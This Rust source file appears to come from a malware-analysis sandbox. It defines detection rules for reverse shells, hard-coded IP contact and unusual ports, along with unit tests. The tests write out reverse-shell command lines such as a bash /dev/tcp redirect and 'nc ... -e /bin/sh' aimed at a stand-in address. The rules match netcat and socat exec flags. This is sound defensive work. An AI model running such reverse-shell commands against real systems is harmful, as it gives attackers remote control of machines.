//! Network behaviour: reverse shells, contact with addresses no name gave,
//! ports no ordinary client uses.

use std::collections::HashSet;
use std::net::IpAddr;

use ioclab_agent::events::{EventData, EventKind};

use super::{exec_command_line, executed_path, is_shell, of_kind, resolved_addresses, Evidence, Hit, Meta, Rule};

pub(super) const RULES: &[&dyn Rule] = &[&ReverseShell, &RawIpContact, &NonStandardPort];

/// `(pid, ip, port)` of a connect event.
fn connect_of(data: &EventData) -> Option<(&str, u16)> {
    match data {
        EventData::Connect(d) => Some((&d.dst.ip, d.dst.port)),
        _ => None,
    }
}

fn is_local(ip: &str) -> bool {
    ip.parse::<IpAddr>().map(|a| a.is_loopback() || a.is_unspecified()).unwrap_or(true)
}

/// A shell whose standard streams are a network socket.
pub struct ReverseShell;

impl Rule for ReverseShell {
    fn meta(&self) -> Meta {
        Meta {
            name: "reverse_shell",
            description: "Runs a shell whose stdin/stdout is a network connection (reverse shell)",
            severity: 5,
            ttp: &[
                ("T1059.004", "Unix Shell", "Adversaries may abuse Unix shell commands and scripts for execution."),
                ("T1095", "Non-Application Layer Protocol", "Adversaries may talk to their C2 over raw TCP or UDP."),
            ],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        let mut hits = Vec::new();
        for (i, e) in ev.events.iter().enumerate() {
            let Some(path) = executed_path(&e.data) else { continue };
            let cmd = exec_command_line(&e.data).unwrap_or_default();
            // a relay that execs a shell on its socket: nc -e /bin/sh, socat exec:sh
            let words: Vec<&str> = cmd.split_whitespace().collect();
            let relay = matches!(super::basename(path), "nc" | "ncat" | "netcat" | "nc.traditional" | "socat")
                && (words.iter().any(|w| matches!(*w, "-e" | "-c" | "--exec" | "--sh-exec"))
                    || words
                        .iter()
                        .any(|w| w.starts_with("exec:") || w.starts_with("EXEC:") || w.starts_with("system:")));
            if relay {
                hits.push(Hit::Event(e.index));
                continue;
            }
            if !is_shell(path) {
                continue;
            }
            // the process connected, then became a shell (dup2 of the socket onto 0/1/2, then exec)
            let before = ev.events[..i]
                .iter()
                .filter(|c| c.pid == e.pid && connect_of(&c.data).is_some_and(|(_, port)| port != 53));
            let mut found: Vec<Hit> = before.map(|c| Hit::Event(c.index)).collect();
            // or the shell itself connects through /dev/tcp
            if cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/") {
                found.extend(
                    ev.events[i..]
                        .iter()
                        .filter(|c| c.pid == e.pid && connect_of(&c.data).is_some())
                        .map(|c| Hit::Event(c.index)),
                );
            }
            if !found.is_empty() {
                hits.extend(found);
                hits.push(Hit::Event(e.index));
            }
        }
        hits
    }
}

/// Contact with an address no DNS answer gave (a hard-coded IP).
pub struct RawIpContact;

impl Rule for RawIpContact {
    fn meta(&self) -> Meta {
        Meta {
            name: "contacts_raw_ip",
            description: "Connects to an IP address it did not resolve from a name (hard-coded address)",
            severity: 2,
            ttp: &[("T1071", "Application Layer Protocol", "Adversaries may talk to their C2 with common protocols.")],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        let resolved = resolved_addresses(ev);
        let dns_servers: HashSet<&str> = of_kind(ev, EventKind::DnsQuery)
            .filter_map(|e| match &e.data {
                EventData::DnsQuery(d) => Some(&*d.dns_server.ip),
                _ => None,
            })
            .collect();
        let raw =
            |ip: &str, port: u16| !is_local(ip) && !resolved.contains(ip) && !(port == 53 && dns_servers.contains(ip));
        let mut hits: Vec<Hit> = ev
            .events
            .iter()
            .filter(|e| connect_of(&e.data).is_some_and(|(ip, port)| raw(ip, port)))
            .map(|e| Hit::Event(e.index))
            .collect();
        let mut seen = HashSet::new();
        let flows =
            ev.network.tcp.iter().chain(&ev.network.udp).map(|f| f.dst).chain(ev.network.dead_hosts.iter().copied());
        for dst in flows {
            let ip = dst.ip().to_string();
            if raw(&ip, dst.port()) && seen.insert(ip.clone()) {
                hits.push(Hit::Ioc {
                    category: "ip",
                    ioc: ip,
                    description: "address contacted without a DNS lookup".into(),
                });
            }
        }
        hits
    }
}

/// Ports ordinary clients use; others suggest a C2 or a bind/reverse shell.
const USUAL_PORTS: &[u16] = &[20, 21, 22, 25, 53, 80, 110, 123, 143, 443, 465, 587, 853, 993, 995, 8080, 8443];

/// A TCP or UDP connection to an unusual port (4444, 1337...).
pub struct NonStandardPort;

impl Rule for NonStandardPort {
    fn meta(&self) -> Meta {
        Meta {
            name: "non_standard_port",
            description: "Connects to a port ordinary clients do not use (4444, 1337...)",
            severity: 2,
            ttp: &[("T1571", "Non-Standard Port", "Adversaries may use unusual ports for their C2.")],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        let unusual = |ip: &str, port: u16| !is_local(ip) && port != 0 && !USUAL_PORTS.contains(&port);
        let mut hits: Vec<Hit> = ev
            .events
            .iter()
            .filter(|e| connect_of(&e.data).is_some_and(|(ip, port)| unusual(ip, port)))
            .map(|e| Hit::Event(e.index))
            .collect();
        // what the fake internet saw, refused connections included
        let flows =
            ev.network.tcp.iter().chain(&ev.network.udp).map(|f| f.dst).chain(ev.network.dead_hosts.iter().copied());
        let mut seen = HashSet::new();
        for dst in flows {
            if unusual(&dst.ip().to_string(), dst.port()) && seen.insert(dst) {
                hits.push(Hit::Ioc { category: "address", ioc: dst.to_string(), description: "unusual port".into() });
            }
        }
        hits
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::Task;
    use super::*;

    #[test]
    fn reverse_shells() {
        // bash -i >& /dev/tcp/...: the outer shell connects, then execs the interactive shell on the socket
        let t = Task::new().connect(20, "bash", "203.0.113.7", 4444, "?").exec(20, 19, "/usr/bin/bash", "bash -i");
        assert_eq!(t.marked(&ReverseShell), vec![0, 1]);
        let t = Task::new().exec(20, 19, "/bin/bash", "bash -c exec 3<>/dev/tcp/203.0.113.7/4444").connect(
            20,
            "bash",
            "203.0.113.7",
            4444,
            "?",
        );
        assert_eq!(t.marked(&ReverseShell), vec![1, 0]);
        let t = Task::new().exec(21, 19, "/usr/bin/nc", "nc 203.0.113.7 4444 -e /bin/sh");
        assert_eq!(t.marked(&ReverseShell), vec![0]);
        // a shell whose child connects, a DNS lookup before exec, a program that is not a shell: no
        let t = Task::new().exec(20, 19, "/bin/sh", "sh -c curl http://x").connect(21, "curl", "127.0.66.80", 80, "x");
        assert!(t.check(&ReverseShell).is_empty());
        let t = Task::new().connect(20, "sh", "10.0.0.1", 53, "?").exec(20, 19, "/bin/sh", "sh");
        assert!(t.check(&ReverseShell).is_empty());
        let t = Task::new().connect(20, "py", "203.0.113.7", 4444, "?").exec(20, 19, "/usr/bin/curl", "curl x");
        assert!(t.check(&ReverseShell).is_empty());
        let t = Task::new().exec(21, 19, "/usr/bin/nc", "nc -z 203.0.113.7 4444");
        assert!(t.check(&ReverseShell).is_empty());
    }

    #[test]
    fn raw_ip() {
        let t = Task::new().connect(5, "x", "203.0.113.7", 4444, "?");
        assert_eq!(t.marked(&RawIpContact), vec![0]);
        // resolved first, loopback, the resolver itself: no
        let t = Task::new()
            .dns(5, "c2.example", &["127.0.66.80", "198.51.100.1"])
            .connect(5, "x", "198.51.100.1", 443, "c2.example")
            .connect(5, "x", "127.0.0.1", 8080, "?")
            .connect(5, "x", "10.0.0.1", 53, "?");
        assert!(t.check(&RawIpContact).is_empty(), "{:?}", t.check(&RawIpContact));
        // from the fake internet's log alone
        let mut t = Task::new();
        t.network.dead_hosts.push("1.1.1.1:53".parse().unwrap());
        assert!(matches!(&t.check(&RawIpContact)[..], [Hit::Ioc { ioc, .. }] if ioc == "1.1.1.1"));
    }

    #[test]
    fn unusual_port() {
        let t = Task::new().connect(5, "x", "203.0.113.7", 4444, "?").connect(5, "x", "203.0.113.7", 1337, "?");
        assert_eq!(t.marked(&NonStandardPort), vec![0, 1]);
        let mut t = Task::new().connect(5, "x", "203.0.113.7", 443, "?").connect(5, "x", "127.0.0.1", 4444, "?");
        t.network.dead_hosts.push("203.0.113.7:443".parse().unwrap());
        assert!(t.check(&NonStandardPort).is_empty());
        t.network.dead_hosts.push("203.0.113.7:31337".parse().unwrap());
        assert!(matches!(&t.check(&NonStandardPort)[..], [Hit::Ioc { ioc, .. }] if ioc == "203.0.113.7:31337"));
    }
}
